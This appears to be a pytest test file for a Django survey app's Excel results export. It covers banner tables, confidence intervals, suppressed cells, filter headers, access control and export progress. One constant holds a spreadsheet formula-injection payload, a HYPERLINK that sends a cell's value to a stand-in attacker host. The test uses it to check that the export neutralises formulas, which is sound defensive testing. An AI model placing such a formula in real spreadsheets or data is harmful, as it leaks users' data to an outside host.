"""The results workbook read back with openpyxl: its contents sheet, one banner table per
question with the page's labels, bases, percentages, intervals, NETs, letters, low-base
flags and suppressed cells, the filters and "as of" time in every header, formula
injection, and the workbook built through the view and the real worker."""

from __future__ import annotations

import io
from copy import deepcopy

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from results.exports.workbook import sheet_names, workbook_export_build
from results.models import ExportRecord
from results.report.scope import scope_for
from results.stats import wilson_interval
from surveys.definition_files import definition_from_data
from surveys.services import survey_import
from tests.kit.data import bulk_responses
from tests.kit.habits import habits
from tests.kit.waiting import wait_for

INJECTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PERCENT = "0%"


def _survey(viewer):
    """Work habits, the label of "rarely" a formula."""
    data = habits()
    pages = deepcopy(data["pages"])
    pages[0]["questions"][1]["choices"][0]["label"] = INJECTED
    version, _ = survey_import(definition=definition_from_data(habits(pages=pages)))
    version.survey.viewers.add(viewer)
    return version.survey


def _answers() -> list[dict]:
    """40 in sales (30 exercise always, 10 rarely), 40 in operations (the other way round);
    e-mail used a lot by all, chat sometimes; 3 of sales pick the gym as a perk (a base of
    3: suppressed), nobody else answers perks."""
    sets = []
    for team, always in (("sales", 30), ("ops", 10)):
        for i in range(40):
            answer = {"team": team, "exercise": "always" if i < always else "rarely",
                      "tools": {"mail": "lots", "chat": "some"}}
            if team == "sales" and i < 3:
                answer["perks"] = ["gym"]
            sets.append(answer)
    return sets


@pytest.fixture
def survey(viewer):
    survey = _survey(viewer)
    bulk_responses(survey, _answers())
    return survey


def _post(client, survey, capture, **filters) -> ExportRecord:
    """Ask for the workbook as the questions page does: its task is queued on commit (not
    sent here; the test builds it in its own process, as the worker would)."""
    with capture(execute=False) as callbacks:
        response = client.post(reverse("exports:workbook", args=[survey.slug]), filters)
    assert response.status_code == 302 and len(callbacks) == 1
    record = ExportRecord.objects.get(kind=ExportRecord.Kind.WORKBOOK_XLSX)
    assert response["Location"] == reverse("exports:workbook_status", args=[survey.slug, record.pk])
    return record


def _download(client, survey, record):
    download = client.get(reverse("exports:workbook_download", args=[survey.slug, record.pk]))
    assert download.status_code == 200
    assert download["Content-Disposition"].startswith('attachment; filename="habits-results-')
    return load_workbook(io.BytesIO(b"".join(download.streaming_content)))


@pytest.fixture
def book(client, viewer, survey, export_files, django_capture_on_commit_callbacks):
    client.force_login(viewer)
    record = _post(client, survey, django_capture_on_commit_callbacks)
    record = workbook_export_build(export_id=record.pk)
    assert (record.status, record.error, record.rows) == (ExportRecord.Status.READY, "", 5)
    return _download(client, survey, record)


def _find(sheet, text: str) -> int:
    """The row whose first cell is `text`."""
    for row in sheet.iter_rows(min_col=1, max_col=1):
        if row[0].value == text:
            return row[0].row
    raise AssertionError(f"{text!r} not in column A of {sheet.title}")


def _values(sheet, row: int, first: int) -> list:
    return [sheet.cell(row=row, column=c).value for c in range(first, first + 5)]


@pytest.mark.django_db
def test_it_lists_every_question_on_the_contents_sheet(book):
    contents = book["Contents"]
    assert book.sheetnames == ["Contents", "team", "exercise", "tools", "perks", "notes"]
    assert contents["A1"].value == "Work habits"
    assert contents["A3"].value == "Filters: All respondents, every version"
    assert contents["A4"].value.startswith("Data as of 20")
    assert [c.value for c in contents[6]] == ["Question", "Code", "Base", "Sheet"]
    assert [(r[1].value, r[2].value, r[3].value) for r in contents.iter_rows(min_row=7)] == [
        ("team", 80, "team"), ("exercise", 80, "exercise"), ("tools", 80, "tools"), ("perks", 3, "perks"),
        ("notes", 0, "notes"),
    ]
    link = contents["A8"].hyperlink
    assert (link.location, link.target) == ("'exercise'!A1", None)
    assert contents["A6"].font.bold and contents.freeze_panes == "A7"


@pytest.mark.django_db
def test_it_writes_a_banner_table_with_labels_bases_percentages_and_intervals(book):
    sheet = book["exercise"]
    assert sheet["A1"].value == "How often do you exercise?" and sheet["A1"].font.bold
    header = _find(sheet, "Answer")
    assert [sheet.cell(row=header, column=c).value for c in (3, 8, 13)] == ["Total", "Sales (A)", "Operations (B)"]
    assert _values(sheet, header + 1, 3) == ["%", "n", "95% low", "95% high", "Higher than"]
    assert all(sheet.cell(row=header, column=c).font.bold for c in (1, 3, 8))
    assert sheet.freeze_panes == f"C{header + 3}"
    base = _find(sheet, "Base")
    assert [sheet.cell(row=base, column=c).value for c in (4, 9, 14)] == [80, 40, 40]
    # Bases under 100 are flagged, as on the page.
    assert [sheet.cell(row=base, column=c).value for c in (7, 12, 17)] == ["low base"] * 3

    always = _find(sheet, "Always")
    assert sheet.cell(row=always, column=2).value == "always"  # the code, in its own small column
    low, high = wilson_interval(30, 40)
    assert _values(sheet, always, 8) == [pytest.approx(0.75), 30, pytest.approx(low), pytest.approx(high), "B"]
    assert _values(sheet, always, 13)[:2] == [pytest.approx(0.25), 10]
    assert _values(sheet, always, 13)[4] in ("", None)
    for column in (3, 5, 6, 8):
        assert sheet.cell(row=always, column=column).number_format == PERCENT
    assert _values(sheet, always, 3)[:2] == [pytest.approx(0.5), 40]


@pytest.mark.django_db
def test_it_writes_nets_and_tests(book):
    sheet = book["exercise"]
    net = _find(sheet, "NET: Often or more")
    assert sheet.cell(row=net, column=1).font.bold
    assert _values(sheet, net, 8)[:2] == [pytest.approx(0.75), 30]
    assert _values(sheet, net, 3)[:2] == [pytest.approx(0.5), 40]
    notes = [c.value for c in sheet["A"] if c.value and str(c.value).startswith("Segments A–B (Your team)")]
    assert len(notes) == 1 and "significant at 5%" in notes[0]
    # A matrix: one banner per row, each with its NET.
    tools = book["tools"]
    assert _find(tools, "E-mail") < _find(tools, "Chat")
    assert [c.value for c in tools["A"]].count("NET: At all") == 2


@pytest.mark.django_db
def test_it_leaves_suppressed_cells_empty_with_the_flag(book):
    sheet = book["perks"]
    base = _find(sheet, "Base")
    assert [sheet.cell(row=base, column=c).value for c in (4, 9, 14)] == [3, 3, 0]
    assert sheet.cell(row=base, column=7).value == "n<5"
    gym = _find(sheet, "Gym")
    assert _values(sheet, gym, 3) == [None, None, None, None, "n<5"]


@pytest.mark.django_db
def test_it_puts_the_filters_and_the_time_in_every_header(book):
    for name in book.sheetnames[1:]:
        sheet = book[name]
        assert sheet["A3"].value == "Filters: All respondents, every version"
        assert sheet["A4"].value == book["Contents"]["A4"].value
        assert sheet["A2"].value.startswith(f"Code {name} · ")


@pytest.mark.django_db
def test_it_neutralises_formulas_in_text_cells(book):
    sheet = book["exercise"]
    assert _find(sheet, "'" + INJECTED)
    assert not any(
        isinstance(c.value, str) and c.value.startswith("=") for s in book.worksheets for row in s.iter_rows()
        for c in row
    )


@pytest.mark.django_db
def test_it_builds_the_workbook_for_the_pages_filters(
    client, viewer, survey, export_files, django_capture_on_commit_callbacks
):
    client.force_login(viewer)
    record = _post(client, survey, django_capture_on_commit_callbacks, segment="team:sales", version="99")

    assert record.parameters == {"filters": {"segment": "team:sales"}}  # an unknown version is dropped
    page = client.get(reverse("exports:workbook_status", args=[survey.slug, record.pk]))
    assert "being prepared" in page.content.decode() and "Sales, every version" in page.content.decode()
    ExportRecord.objects.filter(pk=record.pk).update(rows=2)  # as the build saves its progress
    page = client.get(reverse("exports:workbook_status", args=[survey.slug, record.pk]))
    assert "2 of 5 questions done" in page.content.decode()
    listed = client.get(reverse("exports:index", args=[survey.slug])).content.decode()
    assert reverse("exports:workbook_status", args=[survey.slug, record.pk]) in listed
    assert "Results workbook (XLSX)" in listed
    book = _download(client, survey, workbook_export_build(export_id=record.pk))
    sheet = book["exercise"]
    assert sheet["A3"].value == "Filters: Sales, every version"
    header = _find(sheet, "Answer")
    assert sheet.cell(row=header, column=3).value == "Sales"
    assert _values(sheet, _find(sheet, "Always"), 3)[:2] == [pytest.approx(0.75), 30]


@pytest.mark.django_db
def test_it_serves_no_workbook_before_it_is_ready_nor_to_outsiders(
    client, viewer, outsider, survey, export_files, django_capture_on_commit_callbacks
):
    client.force_login(viewer)
    record = _post(client, survey, django_capture_on_commit_callbacks)
    assert client.get(reverse("exports:workbook_download", args=[survey.slug, record.pk])).status_code == 404
    client.force_login(outsider)
    assert client.get(reverse("exports:workbook_status", args=[survey.slug, record.pk])).status_code in (403, 404)


def test_sheet_names_are_unique_and_valid():
    names = sheet_names(["a/b", "A_B", "x" * 40, "contents", "q:1"])
    assert names == ["a_b", "A_B~2", "x" * 31, "contents~2", "q_1"]


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
def test_it_builds_the_workbook_with_the_real_worker(client, viewer, survey, celery_worker_process, export_files):
    client.force_login(viewer)
    status_url = client.post(reverse("exports:workbook", args=[survey.slug]), {"segment": "team:ops"})["Location"]
    record = wait_for(
        lambda: ExportRecord.objects.exclude(status=ExportRecord.Status.PENDING).first(), timeout=30, interval=0.2
    )

    assert (record.kind, record.status, record.rows, record.error) == (
        ExportRecord.Kind.WORKBOOK_XLSX, ExportRecord.Status.READY, 5, ""
    )
    assert "Download the results workbook" in client.get(status_url).content.decode()
    sheet = _download(client, survey, record)["exercise"]
    assert sheet["A3"].value == "Filters: Operations, every version"
    assert _values(sheet, _find(sheet, "'" + INJECTED), 3)[:2] == [pytest.approx(0.75), 30]


def _every_kind():
    from tests.kit.constant_sum import constant_sum_answers, constant_sum_survey
    from tests.kit.new_types import new_types_answers, new_types_survey
    from tests.kit.ranking import ranking_answers, ranking_survey
    from tests.kit.surveys import EVERY_TYPE, every_type_answers

    def every_type():
        version, _ = survey_import(definition=definition_from_data(EVERY_TYPE))
        return version.survey

    return [(every_type, every_type_answers), (new_types_survey, new_types_answers),
            (ranking_survey, ranking_answers), (constant_sum_survey, constant_sum_answers)]


@pytest.mark.django_db
@pytest.mark.parametrize("make, answers", _every_kind(), ids=["every_type", "new_types", "ranking", "constant_sum"])
def test_it_writes_a_sheet_for_every_kind_of_question(make, answers, tmp_path):
    from django.utils import timezone

    from results.exports.workbook import workbook_write

    survey = make()
    bulk_responses(survey, [answers()] * 6)
    scope = scope_for(survey, {})
    done = []

    sheets = workbook_write(scope, tmp_path / "book.xlsx", as_of=timezone.now(),
                            progress=lambda n, total: done.append((n, total)))

    book = load_workbook(tmp_path / "book.xlsx")
    assert book.sheetnames == ["Contents", *sheet_names(list(scope.questions))]
    assert sheets == len(scope.questions) and done[-1] == (sheets, sheets)
    cells = [c for s in book.worksheets for row in s.iter_rows() for c in row if c.value is not None]
    assert "ada@example.com" not in [c.value for c in cells]  # personal data stays out
    for sheet in book.worksheets[1:]:
        assert sheet["A3"].value == "Filters: All respondents, every version"
        assert sheet.max_row > 5, sheet.title  # a table or a note under the header
    # Percentages, wherever they are, are fractions shown as percentages.
    percents = [c for c in cells if c.number_format == PERCENT and isinstance(c.value, float)]
    assert percents and all(0 <= c.value <= 1 for c in percents)


@pytest.mark.django_db
def test_it_names_the_lines_of_numeric_tables_by_their_labels(tmp_path):
    from django.utils import timezone

    from results.exports.workbook import workbook_write
    from tests.kit.constant_sum import constant_sum_answers, constant_sum_survey

    survey = constant_sum_survey()
    bulk_responses(survey, [constant_sum_answers()] * 6)
    workbook_write(scope_for(survey, {}), tmp_path / "book.xlsx", as_of=timezone.now())

    sheet = load_workbook(tmp_path / "book.xlsx")["budget"]
    share = _find(sheet, "E-mail · Mean share of the total")
    assert sheet.cell(row=share, column=2).number_format == PERCENT
    assert 0 < sheet.cell(row=share, column=2).value < 1
    assert _find(sheet, "E-mail · Mean, 95% low")


@pytest.mark.django_db
def test_it_describes_the_filters_as_the_pages_do(survey):
    from results.report.notes import filter_description

    scope = scope_for(survey, {"segment": "team:ops", "from": "2024-01-01", "to": "2024-02-01", "version": "1"})
    assert filter_description(scope) == "Operations, completed from 2024-01-01 to 2024-02-01, version 1"
    assert filter_description(scope_for(survey, {"to": "2024-02-01"})) == (
        "All respondents, completed to 2024-02-01, every version"
    )


@pytest.mark.django_db
def test_it_saves_the_progress_of_a_pending_workbook(survey, viewer):
    from results.exports.records import export_record
    from results.exports.workbook import _progress_saver

    record = export_record(user=viewer, survey=survey, kind=ExportRecord.Kind.WORKBOOK_XLSX,
                           status=ExportRecord.Status.PENDING)
    save = _progress_saver(record)
    save(1, 40)  # not at a tenth of the way: not saved
    save(8, 40)
    record.refresh_from_db()
    assert record.rows == 8
    ExportRecord.objects.filter(pk=record.pk).update(status=ExportRecord.Status.FAILED, rows=None)
    save(40, 40)  # a finished record keeps its outcome
    record.refresh_from_db()
    assert record.rows is None
